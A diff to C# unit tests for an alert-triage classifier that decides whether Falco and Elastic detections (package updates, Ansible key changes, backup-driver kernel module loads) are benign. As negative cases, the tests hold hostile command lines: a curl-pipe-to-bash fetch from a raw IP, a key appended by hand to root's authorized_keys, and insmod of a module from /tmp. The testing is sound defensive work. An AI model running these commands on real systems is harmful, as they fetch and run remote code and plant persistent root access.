@@ -121,10 +121,61 @@ public sealed class EndpointExplanationTests
         var dpkg = Assess(Falco("dpkg --status-fd 37 --configure openssl", "apt-get", "Write below etc"));
         Assert.Equal(Classification.Benign, dpkg.Classification);
         Assert.Contains(dpkg.Evidence, e => e.Key == "package_manager");
+        // The distribution's unattended-update service running the package manager is the package manager at work too.
+        var automatic = Assess(Falco("/usr/bin/dnf -y upgrade --security", "dnf-automatic", "Write below binary dir"));
+        Assert.Contains(automatic.Evidence, e => e.Key == "package_manager");
 
         var stage = Assess(Falco("sh -c curl -s http://45.61.136.12/x.sh | bash", "php-fpm8.2", "Run shell untrusted"));
         Assert.NotEqual(Classification.Benign, stage.Classification);
         Assert.DoesNotContain(stage.Evidence, e => e.Key == "package_manager");
+    }
+
+    [Fact]
+    public void An_Ansible_module_run_by_a_listed_admin_closes_but_not_under_another_account_or_with_a_second_command()
+    {
+        object Elastic(string user, string commandLine) => new Dictionary<string, object>
+        {
+            ["@timestamp"] = "2026-11-17T11:18:02Z", ["kibana.alert.uuid"] = "e1", ["kibana.alert.rule.name"] = "SSH Authorized Keys File Modification",
+            ["kibana.alert.severity"] = "medium", ["host"] = new { name = "gx-jump-01" }, ["user"] = new { name = user },
+            ["process"] = new { name = "python3", executable = "/usr/bin/python3", command_line = commandLine, parent = new { name = "sh" } },
+            ["event"] = new { kind = "signal", category = new[] { "process" } },
+        };
+        const string module = "/usr/bin/python3 /home/{0}/.ansible/tmp/AnsiballZ_authorized_key.py";
+        var admin = Assess(Elastic("it.admin", string.Format(module, "it.admin")));
+        Assert.Equal(Classification.Benign, admin.Classification);
+        Assert.Contains(admin.Evidence, e => e.Key == "deployment_tool");
+
+        // An account the context file does not list: anyone can name a file AnsiballZ.
+        var other = Assess(Elastic("j.user", string.Format(module, "j.user")));
+        Assert.DoesNotContain(other.Evidence, e => e.Key == "deployment_tool");
+        Assert.NotEqual(Classification.Benign, other.Classification);
+
+        // The admin's account with the module followed by a key appended by hand.
+        var extra = Assess(Elastic("it.admin", string.Format(module, "it.admin") + "; echo 'ssh-ed25519 AAAA x@h' >> /root/.ssh/authorized_keys"));
+        Assert.DoesNotContain(extra.Evidence, e => e.Key == "deployment_tool");
+    }
+
+    [Fact]
+    public void A_backup_service_loading_its_driver_from_the_module_tree_closes_but_not_a_module_from_tmp_or_from_a_shell()
+    {
+        object Elastic(string commandLine, string parent) => new Dictionary<string, object>
+        {
+            ["@timestamp"] = "2026-11-18T22:45:55Z", ["kibana.alert.uuid"] = "e2", ["kibana.alert.rule.name"] = "Kernel Module Load via insmod",
+            ["kibana.alert.severity"] = "medium", ["host"] = new { name = "gx-db-01" }, ["user"] = new { name = "root" },
+            ["process"] = new { name = "insmod", executable = "/usr/sbin/insmod", command_line = commandLine, parent = new { name = parent } },
+            ["event"] = new { kind = "signal", category = new[] { "process" } },
+        };
+        var driver = Assess(Elastic("insmod /lib/modules/5.14.0-427.el9.x86_64/extra/blksnap.ko", "veeamservice"));
+        Assert.Equal(Classification.Benign, driver.Classification);
+        Assert.Contains(driver.Evidence, e => e.Key == "backup_agent");
+
+        var dropped = Assess(Elastic("insmod /tmp/.x/blksnap.ko", "veeamservice"));
+        Assert.DoesNotContain(dropped.Evidence, e => e.Key == "backup_agent");
+        Assert.NotEqual(Classification.Benign, dropped.Classification);
+
+        var typed = Assess(Elastic("insmod /lib/modules/5.14.0-427.el9.x86_64/extra/blksnap.ko", "bash"));
+        Assert.DoesNotContain(typed.Evidence, e => e.Key == "backup_agent");
+        Assert.NotEqual(Classification.Benign, typed.Classification);
     }
 
     [Fact]
